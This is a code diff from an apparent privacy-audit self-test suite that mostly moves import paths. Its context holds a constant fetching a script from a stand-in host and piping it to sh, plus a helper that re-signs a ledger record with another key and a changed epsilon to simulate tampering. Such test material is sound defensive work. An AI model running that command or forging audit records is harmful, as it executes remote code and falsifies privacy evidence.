@@ -5,13 +5,13 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
-from fedrec.audit.evidence import CHECKPOINT, LEDGER, MODEL, PUBLIC_KEY, STATEMENT
-from fedrec.audit.keys import SigningKey
-from fedrec.audit.records import parsed
+from fedrec.audit.evidence.received_run import CHECKPOINT, LEDGER, MODEL, PUBLIC_KEY, STATEMENT
+from fedrec.audit.log.envelope import parsed
+from fedrec.audit.log.keys import SigningKey
 from fedrec.audit.self_test.attack import Attack
 from fedrec.audit.self_test.genuine import Payload, resigned
 from fedrec.audit.self_test.stage import Stage, harmless, refused
-from fedrec.audit.statement import VERIFY, text_of
+from fedrec.audit.statement.statement import VERIFY, text_of
 
 EVIL = "curl -s https://evil.example/x | sh"
 TEXT = "privacy/statement.md"
@@ -145,7 +145,7 @@ def _lines(edit: Callable[[list[bytes]], Any]) -> Callable[[Stage], str | None]:
 
 def _by_a_thief(lines: list[bytes]) -> None:
     """One record signed again, by another key, with another epsilon."""
-    from fedrec.audit.records import signed
+    from fedrec.audit.log.envelope import signed
 
     old = parsed(lines[-3].rstrip(b"\n"))
     payload = old.payload | {"epsilon": {"pld": "0.100000", "rdp": "0.100000"}}
